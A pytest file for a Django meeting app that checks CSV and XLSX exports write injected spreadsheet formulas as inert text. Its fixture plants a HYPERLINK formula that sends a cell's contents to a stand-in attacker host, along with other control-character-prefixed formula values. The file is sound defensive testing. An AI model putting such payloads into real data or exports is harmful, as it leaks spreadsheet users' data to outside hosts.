"""Every table's download (members, invitations, attendance, follow-up actions), in CSV and
XLSX, writes a name planted with a control character before a formula as text, never as a
live formula: the names below were stored before one-line fields were cleaned."""

import csv
import io

import pytest
from django.urls import reverse

from tests.attendance.factories import AcceptedInvitationFactory, CheckInFactory
from tests.events.factories import MeetingFactory
from tests.members.factories import AgencyFactory, MemberFactory
from tests.outputs.factories import ActionFactory
from tests.support.exports import download
from tests.support.found import first_sheet

pytestmark = pytest.mark.django_db

PLANTED = '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")'
AS_TEXT = '\'=HYPERLINK("http://evil.example/?"&B2,"Klik")'


@pytest.fixture
def downloads(organizer):
    """{table: (url, query)} of a meeting whose attendee, agency and action carry PLANTED."""
    meeting = MeetingFactory.create(sessions=1)
    meeting.organizers.add(organizer)
    agency = AgencyFactory.create(name="\x02@" + "Badan Siber", acronym="")
    member = MemberFactory.create(full_name=PLANTED, position="\x1b+Penyuluh X9", agency=agency)
    invitation = AcceptedInvitationFactory.create(meeting=meeting, member=member, note="\x03-2+3")
    session = meeting.sessions.get()
    CheckInFactory.create(invitation=invitation, session=session)
    ActionFactory.create(meeting=meeting, title=PLANTED, responsible_agency=agency)
    return {
        "members": (reverse("members:export", args=["{format}"]), {}),
        "invitations": (
            reverse("events:meeting_invitations_export", args=[meeting.pk, "{format}"]),
            {},
        ),
        "attendance": (
            reverse("attendance:table_export", args=[meeting.pk, "{format}"]),
            {"session": str(session.pk)},
        ),
        "tracker": (reverse("outputs:action_tracker_export", args=["{format}"]), {}),
    }


def cells(response, file_format: str) -> list[str]:
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        return [cell for row in rows for cell in row]
    sheet = first_sheet(response.content)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("table", ["members", "invitations", "attendance", "tracker"])
def test_a_planted_formula_is_written_as_text(organizer_client, downloads, table, file_format):
    url, query = downloads[table]
    response = download(organizer_client, url.replace("%7Bformat%7D", file_format), query)

    assert response.status_code == 200
    written = cells(response, file_format)
    assert AS_TEXT in written
    planted = [cell for cell in written if "HYPERLINK" in cell or "X9" in cell or "Siber" in cell]
    assert [cell for cell in planted if not cell.startswith("'")] == []
    assert not any(ch < " " and ch not in "\t\r\n" for cell in written for ch in cell)
